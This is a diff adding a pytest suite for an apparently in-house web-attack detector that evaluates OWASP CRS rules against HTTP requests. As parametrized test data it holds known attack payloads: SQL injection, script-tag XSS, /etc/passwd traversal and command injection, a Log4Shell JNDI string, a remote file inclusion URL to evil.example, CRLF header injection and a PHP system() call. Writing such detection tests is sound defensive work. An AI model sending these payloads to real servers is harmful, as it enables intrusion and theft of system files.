@@ -1,0 +1,201 @@
+"""The OWASP CRS engine: the vendored rules parse, known payloads fire the rules CRS means for them,
+look-alike normal requests fire nothing at PL1, and no input can make `match` raise or run long."""
+
+from __future__ import annotations
+
+import re
+import time
+from collections import Counter
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from secmon.core.classify import crs
+from secmon.core.classify.crs import CrsRuleSet
+from secmon.core.classify.request import Request
+from secmon.producer.generate import Mix, plan
+
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
+)
+
+
+@pytest.fixture(scope="module")
+def pl1() -> CrsRuleSet:
+    return CrsRuleSet.load()
+
+
+def fired(rules: CrsRuleSet, url: str, agent: str | None = CHROME, referer: str | None = None) -> frozenset[str]:
+    return rules.match(Request("GET", url, agent, referer))
+
+
+def test_the_committed_report_is_the_one_the_rules_give():
+    assert crs.REPORT_PATH.read_text(encoding="utf-8") == crs.report_text(), (
+        "crs.report.txt is stale: run python -m secmon.core.classify.crs"
+    )
+
+
+def test_every_rule_in_the_files_is_either_loaded_or_listed_with_a_reason():
+    ids_in_files = set()
+    for path in crs.rule_files():
+        lines = path.read_text(encoding="latin-1").splitlines()
+        ids_in_files.update(
+            re.findall(r'[\s",]id:(\d+)', "\n".join(x for x in lines if not x.lstrip().startswith("#")))
+        )
+    rules = CrsRuleSet.load(paranoia=4)
+    loaded = {rule.id for rule in rules.loaded}
+    not_loaded = {rule_id for rule_id, _ in rules.not_loaded}
+    assert loaded | not_loaded == ids_in_files
+    assert not loaded & not_loaded
+    assert all(reason for _, reason in rules.not_loaded)
+
+
+def test_each_family_an_access_log_can_show_has_rules_at_pl1(pl1):
+    families = Counter(rule.family for rule in pl1.loaded)
+    expected = set(crs.FAMILY_BY_FILE.values()) | set(crs.FAMILY_BY_ID.values())
+    assert set(families) == expected, families
+    assert families["sqli"] >= 15 and families["xss"] >= 15 and families["command_injection"] >= 10
+
+
+def test_the_families_follow_the_files_and_the_exceptions(pl1):
+    family = {rule.id: rule.family for rule in CrsRuleSet.load(paranoia=4).loaded}
+    assert family["942100"] == "sqli" and family["941100"] == "xss" and family["930120"] == "path_traversal"
+    assert family["921200"] == "ldap" and family["934100"] == "node" and family["934110"] == "ssrf"
+
+
+def test_anomaly_evaluation_and_initialisation_are_not_loaded(pl1):
+    reasons = dict(CrsRuleSet.load(paranoia=4).not_loaded)
+    assert reasons["949110"] == "anomaly-score evaluation"
+    assert reasons["901100"].startswith("initialisation")
+    assert "REQUEST_HEADERS:Content-Type" in reasons["920470"]
+
+
+def test_a_higher_paranoia_level_adds_rules_and_keeps_the_lower_ones(pl1):
+    pl2 = CrsRuleSet.load(paranoia=2)
+    assert {r.id for r in pl1.loaded} < {r.id for r in pl2.loaded}
+    assert all(rule.paranoia == 1 for rule in pl1.loaded)
+    assert {rule.paranoia for rule in pl2.loaded} == {1, 2}
+    # 942130 is tagged paranoia-level/2: silent at PL1, fires at PL2
+    assert "942130" not in fired(pl1, "/?a=1%27%20or%20x%3Dx")
+    assert "942130" in fired(pl2, "/?a=1%27%20or%20x%3Dx")
+
+
+def test_a_chain_fires_only_when_every_link_matches():
+    # 942130 captures both sides of a comparison, and its chain link requires them equal (TX:1 @streq %{TX.2}).
+    pl2 = CrsRuleSet.load(paranoia=2)
+    assert "942130" in fired(pl2, "/?a=1%27%20or%20x%3Dx")
+    assert "942130" not in fired(pl2, "/?a=1%27%20or%20x%3Dy")
+
+
+@pytest.mark.parametrize(
+    ("url", "agent", "referer", "expected"),
+    [
+        ("/?id=%27%20or%20%271%27%3D%271", CHROME, None, {"942100"}),  # libinjection
+        ("/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", CHROME, None, {"941100", "941110"}),
+        ("/?file=/etc/passwd", CHROME, None, {"930120"}),
+        ("/", "${jndi:ldap://x}", None, {"944150"}),  # Log4Shell in the User-Agent
+        ("/", CHROME, "https://x.example/<script>alert(1)</script>", {"941110"}),  # in the Referer
+        ("/?page=http://evil.example/shell.txt?", CHROME, None, {"931120"}),
+        ("/?x=%0d%0aSet-Cookie:%20a=b", CHROME, None, {"921160"}),
+        ("/", "sqlmap/1.7", None, {"913100"}),
+    ],
+)
+def test_known_payloads_fire_the_rules_crs_means_for_them(pl1, url, agent, referer, expected):
+    assert expected <= fired(pl1, url, agent, referer)
+
+
+@pytest.mark.parametrize(
+    ("url", "prefix"),
+    [
+        ("/?cmd=;cat%20/etc/passwd", "932"),
+        ("/?a=%3C%3Fphp%20system(%27id%27);%20%3F%3E", "933"),
+        ("/?__proto__[admin]=1", "934"),
+    ],
+)
+def test_payloads_fire_their_family(pl1, url, prefix):
+    assert any(rule_id.startswith(prefix) for rule_id in fired(pl1, url))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/search?q=union+station",
+        "/wp-login.php?action=register",
+        "/?p=123&replytocom=45",
+        "/index.php?title=Special:Search&search=select+a+theme",
+        "/blog/2024/05/how-to-drop-a-table-from-your-diet/",
+        "/products?sort=price&order=desc&page=2",
+    ],
+)
+def test_look_alike_normal_requests_fire_nothing_at_pl1(pl1, url):
+    assert fired(pl1, url, CHROME, "https://www.google.com/") == frozenset()
+
+
+def test_the_producers_normal_clients_fire_nothing_at_pl1(pl1):
+    traffic = plan(Mix(rate=100, seed=5, attacks_per_scenario=1), 1_706_184_000_000, 2 * 60_000)
+    attackers = {label.attacker_ip for label in traffic.labels}
+    normal = [e for e in traffic.events() if e.ip_address not in attackers]
+    assert len(normal) > 1000
+    flagged = [e.url for e in normal if pl1.match(Request(e.http_method, e.url, e.user_agent, e.referrer))]
+    assert flagged == []
+
+
+def test_the_sets_give_what_the_rules_give_one_by_one():
+    rules = CrsRuleSet.load(paranoia=2)
+    traffic = plan(Mix(rate=50, seed=7, attacks_per_scenario=3), 1_706_184_000_000, 2 * 60_000)
+    attackers = {label.attacker_ip for label in traffic.labels}
+    events = list(traffic.events())
+    chosen = [e for e in events if e.ip_address in attackers][:400] + events[:400]
+    requests = [Request(e.http_method, e.url, e.user_agent, e.referrer) for e in chosen]
+    assert any(rules.match(request) for request in requests)
+    assert [rules.match(r) for r in requests] == [rules.match_each(r) for r in requests]
+
+
+def test_variables_are_filled_as_modsecurity_fills_them():
+    variables = crs.request_variables(Request("GET", "/a%20b/c.php?x=%27+1&y&=z", "UA", None))
+    assert variables["REQUEST_URI"] == [("", "/a%20b/c.php?x=%27+1&y&=z")]  # raw, with the query
+    assert variables["REQUEST_FILENAME"] == [("", "/a%20b/c.php")]  # raw: parsed_uri.path is not decoded
+    assert variables["REQUEST_BASENAME"] == [("", "c.php")]
+    assert variables["QUERY_STRING"] == [("", "x=%27+1&y&=z")]
+    assert variables["ARGS"] == [("x", "' 1"), ("y", ""), ("", "z")]  # decoded, + is a space
+    assert variables["REQUEST_HEADERS"] == [("User-Agent", "UA")]
+    assert crs.request_variables(Request("GET", "/x"))["QUERY_STRING"] == []
+
+
+def test_targets_parse_with_exclusions_counts_and_regex_keys():
+    targets = crs.parse_targets("ARGS|!ARGS:foo|&ARGS|ARGS_NAMES:/^a|b$/|REQUEST_HEADERS:User-Agent")
+    assert [str(t) for t in targets] == [
+        "ARGS",
+        "!ARGS:foo",
+        "&ARGS",
+        "ARGS_NAMES:/^a|b$/",
+        "REQUEST_HEADERS:User-Agent",
+    ]
+    link = crs.Link(targets, "rx", "x", False, (), False, ())
+    assert link.reads("ARGS", "bar") and not link.reads("ARGS", "FOO")  # names compare case-insensitively
+
+
+def test_a_10kb_value_costs_under_25_ms_for_the_whole_rule_set():
+    hostile = "/?q=" + ("%3Cscript%3E%u0027/**/union\\x41&#x3c;../" * 300)[:10_000]
+    for rules in (CrsRuleSet.load(paranoia=1), CrsRuleSet.load(paranoia=4)):
+        for request in (Request("GET", hostile), Request("GET", "/" + "a" * 10_000, "b" * 10_000, "c" * 10_000)):
+            rules.match(request)
+            best = min(timed(rules.match, request) for _ in range(3))
+            assert best < 0.025, f"{best * 1000:.1f} ms"
+
+
+def timed(function, argument) -> float:
+    start = time.perf_counter()
+    function(argument)
+    return time.perf_counter() - start
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(url=st.text(max_size=400), agent=st.none() | st.text(max_size=200), referer=st.none() | st.text(max_size=200))
+def test_match_takes_any_text_and_returns_in_bounded_time(url, agent, referer):
+    rules = CrsRuleSet.load(paranoia=4)
+    start = time.perf_counter()
+    result = rules.match(Request("GET", url, agent, referer))
+    assert time.perf_counter() - start < 0.25
+    assert isinstance(result, frozenset) and all(rule_id.isdigit() for rule_id in result)
